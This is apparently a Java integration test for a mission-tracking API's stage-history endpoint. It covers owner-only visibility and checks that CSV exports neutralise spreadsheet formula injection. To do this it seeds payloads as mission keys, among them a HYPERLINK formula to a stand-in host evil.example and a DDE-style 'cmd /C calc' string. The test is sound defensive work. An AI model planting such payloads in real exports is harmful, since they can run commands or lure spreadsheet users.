package io.controlplane.telemetry;

import static io.controlplane.mission.MissionJourney.Vars;
import static org.assertj.core.api.Assertions.assertThat;

import io.controlplane.Http;
import io.controlplane.IntegrationTest;
import io.controlplane.JourneyDriver;
import io.controlplane.mission.MissionJourney;
import io.controlplane.mission.MissionService;
import io.controlplane.platform.Roles;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.camunda.bpm.engine.RuntimeService;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/** {@code GET /api/stages/history}: the owner rule, and CSV cells a spreadsheet shows as text, never as a formula. */
@IntegrationTest
class StageHistoryTest {
    @LocalServerPort
    int port;

    @Autowired
    JourneyDriver drive;

    @Autowired
    MissionService missions;

    @Autowired
    RuntimeService runtime;

    Http http;

    @BeforeEach
    void init() {
        http = new Http(port);
    }

    /**
     * Starts a mission owned by {@code mo} with a business key chosen outside the service (only an administrator may
     * choose one now: the engine guard refuses it to a mission owner, see GovernanceBypassTest). Started here without a
     * caller, as an administrator's tooling would.
     */
    private String startWithBusinessKey(String businessKey) {
        runtime.createProcessInstanceByKey(MissionJourney.PROCESS_KEY)
                .businessKey(businessKey)
                .setVariables(Map.of(
                        Vars.MISSION_TITLE,
                        "History formula",
                        Vars.OBJECTIVE,
                        "Re-engage idle accounts",
                        Vars.PERSONA,
                        "Revenue operations",
                        Vars.KPI_METRIC,
                        "reactivated accounts",
                        Vars.KPI_TARGET,
                        40,
                        Vars.SAFEGUARD_TEMPLATES,
                        "[\"tone\"]",
                        Vars.TOOLKIT_REQUEST,
                        "hubspot: crm.objects.contacts.read",
                        Vars.MISSION_OWNER,
                        "mo"))
                .execute();
        return businessKey;
    }

    @Test
    void aBusinessKeyThatLooksLikeAFormulaIsExportedAsText() {
        String suffix = UUID.randomUUID().toString().substring(0, 8);
        String hyperlink = startWithBusinessKey("=HYPERLINK(\"https://evil.example/?" + suffix + "\",\"open me\")");
        String plus = startWithBusinessKey("+1+cmd|' /C calc'!A0 " + suffix);
        String at = startWithBusinessKey("@SUM(1,2) " + suffix);
        String minus = startWithBusinessKey("-2+3 " + suffix);
        String tab = startWithBusinessKey("\t=1+1 " + suffix);

        for (String key : List.of(hyperlink, plus, at, minus, tab)) {
            Http.Response csv = http.get(
                    "/api/stages/history?format=csv&missionId=" + URLEncoder.encode(key, StandardCharsets.UTF_8), "ta");
            assertThat(csv.status()).isEqualTo(200);
            List<String> rows = csv.body().lines().skip(1).toList();
            assertThat(rows).as(key).isNotEmpty().allSatisfy(row -> {
                // the first cell is quoted and starts with a single quote: text to every spreadsheet
                assertThat(row).startsWith("\"'" + key.replace("\"", "\"\""));
                assertThat(row)
                        .doesNotStartWith("=")
                        .doesNotStartWith("+")
                        .doesNotStartWith("-")
                        .doesNotStartWith("@");
            });
            // the JSON export keeps the key as it is
            assertThat(http.get("/api/stages/history?missionId=" + URLEncoder.encode(key, StandardCharsets.UTF_8), "ta")
                            .json()
                            .path("items")
                            .findValuesAsText("missionId"))
                    .containsOnly(key);
        }
        assertThat(StageHistoryController.csv("Plan & Approve")).isEqualTo("Plan & Approve");
        assertThat(StageHistoryController.csv("a,b")).isEqualTo("\"a,b\"");
        assertThat(StageHistoryController.csv("say \"hi\"")).isEqualTo("\"say \"\"hi\"\"\"");
        assertThat(StageHistoryController.csv("  =1+1")).isEqualTo("\"'  =1+1\"");
        assertThat(StageHistoryController.csv("2024-06-03T10:00:00Z")).isEqualTo("2024-06-03T10:00:00Z");
    }

    @Test
    void aMissionOwnerSeesOnlyTheirOwnMissionsVisits() {
        // the window starts with this test, so its visits fill the first page whatever other tests left behind
        String since = "/api/stages/history?from=" + Instant.now().minusSeconds(1);
        String mine = drive.start("mo", JourneyDriver.brief("History: mine"));
        String theirs = missions.start(
                        JourneyDriver.brief("History: someone else's"), "mo-history", List.of(Roles.MISSION_OWNER))
                .id();

        List<String> seenByOwner = http.get(since, "mo").json().path("items").findValuesAsText("missionId");
        assertThat(seenByOwner).contains(mine).doesNotContain(theirs);
        Http.Response none = http.get("/api/stages/history?missionId=" + theirs, "mo");
        assertThat(none.json().path("items")).isEmpty();
        assertThat(none.json().path("total").asLong()).isZero();
        assertThat(http.get("/api/stages/history?format=csv&missionId=" + theirs, "mo")
                        .body()
                        .lines())
                .hasSize(1);
        assertThat(http.get("/api/stages/history?format=csv", "mo").body())
                .contains(mine)
                .doesNotContain(theirs);
        assertThat(http.get("/api/stages/history?missionId=" + mine, "mo")
                        .json()
                        .path("items")
                        .findValuesAsText("missionId"))
                .isNotEmpty()
                .containsOnly(mine);
        // the roles that work on every mission read every mission's visits
        for (String reader : List.of("gv", "oc", "ta", "kc", "demo")) {
            assertThat(http.get(since, reader).json().path("items").findValuesAsText("missionId"))
                    .as(reader)
                    .contains(mine, theirs);
        }
    }
}
